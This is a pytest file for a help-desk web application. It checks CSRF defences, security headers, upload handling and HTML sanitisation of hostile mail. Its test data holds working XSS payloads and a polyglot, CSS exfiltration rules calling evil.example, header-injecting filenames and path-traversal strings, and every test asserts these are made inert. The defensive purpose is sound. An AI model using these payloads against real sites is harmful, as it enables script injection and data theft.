"""CSRF, headers, and hostile content: what other people write is shown, never run."""

import re
from html.parser import HTMLParser
from typing import Any
from uuid import UUID, uuid4

import pytest
from msgspec import json
from sqlalchemy import update
from yarl import URL

from channels.envelope import InboundFile, Party
from kernel.html import VERSION, sanitise
from knowledge_base.tables import ArticleTextRow
from tests.desk.scripted import SETTINGS
from tests.web.chat_scene import png
from tests.web.world import World
from tickets.tables import CannedReplyRow, MessageRow
from web.files import clean_name
from web.routes import API, SAFE_METHODS
from web.server import API_ROUTES

pytestmark = pytest.mark.asyncio(loop_scope="module")

POLYGLOT = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"
)
FOREIGN = [
    {},
    {"Origin": "null"},
    {"Origin": "https://evil.example"},
    {"Origin": "http://127.0.0.1.evil.example"},
    {"Sec-Fetch-Site": "cross-site"},
    {"Sec-Fetch-Site": "same-site"},
    {"Origin": "https://evil.example", "Sec-Fetch-Site": "same-origin"},
    {"Referer": "http://127.0.0.1/"},
]


OURS = ["meta", "base"]
"""The head that we write around a message: its letters, and that links open elsewhere."""


class Page(HTMLParser):
    """What a browser would find active in a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.active: list[str] = []
        self.loads: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "iframe", "object", "embed", "svg", "form", "meta", "link", "base"}:
            self.active.append(tag)
        for name, value in attrs:
            script = (value or "").strip().lower().startswith("javascript:")
            if name.startswith("on") or (script and name not in {"value", "title"}):
                self.active.append(f"{tag} {name}")
            if name in {"src", "srcset", "poster", "background", "data", "ping"}:
                self.loads.append(value or "")


@pytest.mark.parametrize("headers", FOREIGN)
async def test_another_site_changes_nothing_with_our_cookie(
    world: World, headers: dict[str, str]
) -> None:
    wrong = []
    for route in API_ROUTES:
        if route.method in SAFE_METHODS:
            continue
        path = API + re.sub(r"\{\w+\}", str(uuid4()), route.path)
        status, _, body = await world.admin.raw(route.method, path, headers=headers, json={})
        if (status, json.decode(body)["error"]) != (403, "forbidden"):
            wrong.append((route.method, route.path, status))
    assert wrong == []


async def test_our_own_pages_do(world: World) -> None:
    for headers in (
        {"Origin": world.admin._origin},
        {"Sec-Fetch-Site": "same-origin"},
        {"Origin": world.admin._origin.replace("127.0.0.1", "localhost")},
    ):
        status, _, _ = await world.admin.raw(
            "PUT", f"{API}/presence", headers=headers, json={"state": "away"}
        )
        assert status == 200


async def test_a_link_or_picture_can_change_nothing(world: World) -> None:
    """GET does nothing, and no header makes a GET or POST anything else."""
    for path in ("session", f"tickets/{world.north.ids['ticket']}/draft"):
        await world.north.agent.raw(
            "GET", f"{API}/{path}", headers={"X-HTTP-Method-Override": "DELETE"}
        )
    assert await world.north.agent.get("session")
    assert await world.north.agent.get(f"tickets/{world.north.ids['ticket']}/draft")


async def test_no_other_site_may_read_an_answer(world: World) -> None:
    for path in (f"{API}/session", "/api/openapi.json", "/", "/help", "/healthz", "/nothing"):
        for method in ("GET", "OPTIONS"):
            _, headers, _ = await world.admin.raw(
                method,
                path,
                headers={
                    "Origin": "https://evil.example",
                    "Access-Control-Request-Method": "POST",
                },
            )
            assert [one for one in headers if one.lower().startswith("access-control")] == []


SAVED = "application/octet-stream"
CONSOLE = (
    "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'; "
    "img-src 'self' data: blob:; font-src 'self'; connect-src 'self'; frame-src 'self'; "
    "object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
)
ATTACHMENT = "sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src 'self' data:"
FRAME = (
    "default-src 'none'; img-src data:; style-src 'unsafe-inline'; form-action 'none'; "
    "frame-ancestors 'self'; sandbox allow-popups allow-popups-to-escape-sandbox"
)
HELP = (
    "default-src 'none'; style-src 'self'; img-src 'self' https:; form-action 'self'; "
    "base-uri 'none'; frame-ancestors 'none'"
)


@pytest.mark.parametrize(
    ("path", "kind", "policy", "cache"),
    [
        (f"{API}/session", "application/json", CONSOLE, "no-store"),
        (f"{API}/tickets", "application/json", CONSOLE, "no-store"),
        (f"{API}/nothing", "application/json", CONSOLE, "no-store"),
        (f"{API}/tickets/x", "application/json", CONSOLE, "no-store"),
        ("/api/docs", "text/html", CONSOLE, None),
        ("/api/openapi.json", "application/json", CONSOLE, None),
        (API + "/messages/{message}/html", "text/html", FRAME, "private, no-store"),
        (API + "/attachments/{attachment}", "image/png", ATTACHMENT, "private, no-store"),
        (API + "/attachments/{upload}", SAVED, ATTACHMENT, "private, no-store"),
        ("/help", "text/html", HELP, "public, max-age=60"),
        ("/help/nothing", "text/html", HELP, "public, max-age=60"),
        ("/healthz", "application/json", CONSOLE, "no-store"),
        ("/metrics", "text/plain", CONSOLE, None),
    ],
)
async def test_every_kind_of_answer_says_how_it_may_be_treated(
    world: World, path: str, kind: str, policy: str, cache: str | None
) -> None:
    _, headers, _ = await world.north.agent.raw("GET", path.format(**world.north.ids))

    assert headers["Content-Type"].split(";")[0] == kind
    assert headers["Content-Security-Policy"] == policy
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert headers.get("Cache-Control") == cache


@pytest.mark.parametrize("method", ["GET", "POST", "PUT", "PATCH", "DELETE", "PROPFIND"])
@pytest.mark.parametrize("path", ["/api/", "/api/v1", "/api/v2/tickets", "/api/v1/../v1/x"])
async def test_what_the_api_does_not_have_is_said_in_json(
    world: World, method: str, path: str
) -> None:
    status, headers, body = await world.admin.raw(
        method, path, headers={"Origin": world.admin._origin}
    )

    assert (status, json.decode(body)["error"]) == (404, "not_found")
    assert headers["Content-Type"].startswith("application/json")


async def test_a_known_path_with_another_method_is_not_found_either(world: World) -> None:
    status, _, body = await world.admin.raw(
        "DELETE", f"{API}/tickets", headers={"Origin": world.admin._origin}
    )

    assert (status, json.decode(body)["error"]) == (404, "not_found")


@pytest.mark.parametrize("path", ["assets/..%2f..%2fserver.py", "assets/%2e%2e/index.html"])
async def test_no_path_leads_out_of_the_served_folders(world: World, path: str) -> None:
    async with world.admin._http.get(URL(f"{world.admin.url}/{path}", encoded=True)) as answer:
        assert answer.status in {400, 404}


# Hostile mail


HOSTILE = f"""
<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>
<a href="javascript:alert(1)">a</a><form action=//evil.example><input name=a></form>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<style>@import '//evil.example/a'; input[value^=a]{{background:url(//evil.example/b)}}</style>
<div style="background:url(//evil.example/c);position:fixed;z-index:9999">over</div>
<link rel=preload href=//evil.example/d as=image>
<meta http-equiv=refresh content="0;//evil.example">
<img src="//evil.example/e"><img srcset="//evil.example/f 2x"><video poster="//evil.example/g">
</video><table background="//evil.example/h"><tr><td>cell</td></tr></table>
<a ping="//evil.example/i" href="#">p</a>
<img src="https://remote.example/pixel.gif"><img src="cid:logo@x"><b>kept</b>{POLYGLOT}
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
"""


async def hostile_mail(world: World, name: str) -> dict[str, Any]:
    """Let a mail arrive as the mail channel would hand it over: sanitised once, raw kept."""
    files = (
        InboundFile(
            name="logo.png",
            media_type="image/png",
            data=png(),
            size=len(png()),
            content_id="logo@x",
            inline=True,
        ),
        InboundFile(
            name='"><svg onload=alert(1)>\r\nSet-Cookie: a=b\u202egnp.exe',
            media_type="image/svg+xml",
            data=b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
            size=10,
        ),
    )
    return await world.arrives(
        world.north,
        name,
        POLYGLOT,
        subject=POLYGLOT,
        html=sanitise(HOSTILE).html,
        files=files,
        sender=Party(handle="evil@client.example", name=f"<b>{POLYGLOT}"),
    )


async def test_a_hostile_mail_is_inert_in_its_frame(world: World) -> None:
    seen = await hostile_mail(world, "hostile-1")
    path = f"{API}/messages/{seen['messages'][0]['id']}/html"

    _, _, without = await world.north.agent.raw("GET", path)
    _, headers, with_images = await world.north.agent.raw("GET", path, params={"images": "1"})

    page, asked = Page(without.decode()), Page(with_images.decode())
    assert page.active == OURS
    assert asked.active == OURS
    assert "<b>kept</b>" in without.decode()
    assert all(one.startswith("data:image/png;base64,") for one in page.loads)
    assert len(page.loads) == 1
    assert "https://remote.example/pixel.gif" in asked.loads
    assert "script-src" not in headers["Content-Security-Policy"]
    assert headers["Content-Security-Policy"].startswith("default-src 'none'; img-src data: http")


@pytest.mark.parametrize("images", ["2", "true", "", "0&images=1"])
async def test_remote_images_are_asked_for_in_one_way_only(world: World, images: str) -> None:
    status, _, _ = await world.north.agent.raw(
        "GET", f"{API}/messages/{world.north.ids['message']}/html", params=f"images={images}"
    )

    assert status == 422


async def test_hostile_words_reach_the_console_as_words(world: World) -> None:
    """JSON keeps every letter; nothing is cut out, escaped twice or turned into markup."""
    seen = await hostile_mail(world, "hostile-2")

    assert seen["ticket"]["subject"] == POLYGLOT
    assert seen["messages"][0]["text"] == POLYGLOT
    assert seen["ticket"]["client_name"] == f"<b>{POLYGLOT}"[:120]
    _, headers, _ = await world.north.agent.raw("GET", f"{API}/tickets/{seen['ticket']['id']}")
    assert headers["Content-Type"].startswith("application/json")


async def test_attachments_are_saved_not_shown_unless_they_are_pictures(world: World) -> None:
    seen = await hostile_mail(world, "hostile-3")
    logo, vector = seen["messages"][0]["attachments"]

    _, shown, _ = await world.north.agent.raw("GET", logo["url"])
    _, saved, body = await world.north.agent.raw("GET", vector["url"])

    assert shown["Content-Disposition"].startswith("inline; filename*=UTF-8''logo.png")
    assert saved["Content-Disposition"].startswith("attachment; filename*=UTF-8''")
    assert saved["Content-Type"] == "application/octet-stream"
    assert body.startswith(b"<svg")
    assert "Set-Cookie" not in saved
    assert "%0D" not in saved["Content-Disposition"]
    assert "%E2%80%AE" not in saved["Content-Disposition"]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("x.png", b"<svg onload=alert(1)>"),
        ("x.png", b"<!doctype html><script>alert(1)</script>"),
        ("x.txt", b"<script>alert(1)</script>"),
        ("x.html", b"\xff\xfe<\x00s\x00v\x00g\x00"),
        ("x.svgz", b"\x1f\x8b\x08"),
        ("x.xhtml", b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>"),
        ("x.jpg", b"MIME-Version: 1.0\r\nContent-Type: multipart/related"),
        ("x.js", b"alert(1)"),
        ("x.webp", b"RIFF....WEBX"),
    ],
)
async def test_an_upload_is_what_its_bytes_are(world: World, name: str, data: bytes) -> None:
    made = await world.north.agent.upload(name, data)

    _, headers, body = await world.north.agent.raw("GET", made["url"])

    assert headers["Content-Disposition"].startswith("attachment")
    assert headers["Content-Type"] == "application/octet-stream"
    assert body == data


async def test_a_picture_that_is_also_a_script_is_only_ever_a_picture(world: World) -> None:
    made = await world.north.agent.upload("x.js", b"GIF89a=1;alert(1)//<script>")

    _, headers, _ = await world.north.agent.raw("GET", made["url"])

    assert headers["Content-Type"] == "image/gif"
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Content-Security-Policy"] == ATTACHMENT


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "....etcpasswd"),
        ("..\\x", "x"),
        ("a\r\nSet-Cookie: b", "aSet-Cookie: b"),
        ("\u202egnp.exe", "gnp.exe"),
        ("\u200b.htaccess", "htaccess"),
        ("a\x00b", "ab"),
        ('"', "file"),
        ("...", "file"),
        ("Звіт за травень.pdf", "Звіт за травень.pdf"),
    ],
)
async def test_names_keep_nothing_that_leads_anywhere(given: str, kept: str) -> None:
    assert clean_name(given).lstrip(".") == kept.lstrip(".")
    assert not set(clean_name(given)) & set('/\\"\r\n\x00')


async def test_what_agents_write_is_cleaned_like_everybodys_html(world: World) -> None:
    agent, ids = world.north.agent, world.north.ids
    note = await agent.post(
        f"tickets/{ids['ticket']}/messages",
        {"id": str(uuid4()), "kind": "note", "html": HOSTILE},
    )
    canned = await world.supervisor.post(
        "canned-replies", {"shortcut": "hostile", "title": POLYGLOT[:120], "html": HOSTILE}
    )
    rendered = await agent.get(f"canned-replies/{canned['id']}/render", ticket_id=ids["ticket"])
    article = await world.admin.post(
        "articles",
        {"texts": [{"locale": "en", "title": POLYGLOT, "markdown": HOSTILE}], "slug": "hostile"},
    )
    _, _, frame = await agent.raw("GET", f"{API}/messages/{note['id']}/html")

    assert Page(frame.decode()).active == OURS
    assert Page(rendered["html"]).active == []
    assert Page(article["texts"][0]["html"]).active == []
    assert canned["title"] == POLYGLOT[:120]


async def test_the_help_page_shows_hostile_words_as_words(world: World) -> None:
    category = await world.admin.post("categories", {"names": {"en": POLYGLOT[:100]}})
    made = await world.admin.post(
        "articles",
        {
            "texts": [{"locale": "en", "title": POLYGLOT, "markdown": f"{HOSTILE}\n\n{POLYGLOT}"}],
            "slug": "hostile-help",
            "category_id": category["id"],
            "visibility": "public",
        },
    )
    await world.admin.patch(
        f"articles/{made['id']}", {"version": made["version"], "state": "published"}
    )

    for path, query in (
        ("/help", {}),
        ("/help/hostile-help", {}),
        ("/help", {"q": "alert"}),
        ("/help", {"q": POLYGLOT[:150]}),
        ("/help", {"q": "x", '"><script>': '"><script>alert(1)</script>'}),
        ('/help/"><script>alert(1)<', {}),
    ):
        _, _, body = await world.admin.raw("GET", path, params=query)
        active = [one for one in Page(body.decode()).active if one not in {"meta", "link", "form"}]
        assert active == [], path


async def test_secrets_of_an_account_never_come_back(world: World) -> None:
    secret = "canary-of-a-password"
    account = await world.admin.post(
        "accounts",
        {
            "kind": "mail",
            "name": "Secret",
            "settings": SETTINGS,
            "secrets": {"imap_password": secret},
            "enabled": False,
        },
    )

    answers = [
        await world.admin.raw("GET", f"{API}/{path}")
        for path in ("accounts", "floor", "dead-letters", "agents", "tokens", "sessions")
    ]

    assert account["secrets_set"] == ["imap_password"]
    assert all(secret.encode() not in body for _, _, body in answers)
    assert secret not in str(account)


async def test_a_message_id_is_a_uuid_and_nothing_else_is_looked_for(world: World) -> None:
    for name in ("x", "../../session", "%00", "1", str(UUID(int=0)), "é"):
        status, _, _ = await world.admin.raw("GET", f"{API}/messages/{name}/html")
        assert status in {400, 404}


async def test_html_stored_by_older_rules_is_cleaned_again_wherever_it_is_shown(
    world: World,
) -> None:
    old = "<p onclick='x()'>Kept<script>x()</script></p>"
    message, shelf = UUID(world.north.ids["message"]), UUID(world.shared["article"])
    canned = UUID(world.north.ids["canned"])
    async with world.center.house.database.transaction() as session:
        for row, which in (
            (MessageRow, MessageRow.id == message),
            (CannedReplyRow, CannedReplyRow.id == canned),
            (ArticleTextRow, ArticleTextRow.article_id == shelf),
        ):
            values = {"html": old, "html_version": VERSION - 1}
            await session.execute(update(row).where(which).values(**values))

    agent = world.north.agent
    _, _, frame = await agent.raw("GET", f"{API}/messages/{message}/html")
    shown = [frame.decode()]
    replies = await agent.get("canned-replies")
    shown += [one["html"] for one in replies if one["id"] == str(canned)]
    ticket = {"ticket_id": world.north.ids["ticket"]}
    shown.append((await agent.get(f"canned-replies/{canned}/render", **ticket))["html"])
    article = await agent.get(f"articles/{shelf}")

    assert all("Kept" in text for text in shown)
    assert [Page(text).active for text in shown] == [OURS, [], []]
    assert "They come." in article["texts"][0]["html"]
    assert Page(article["texts"][0]["html"]).active == []
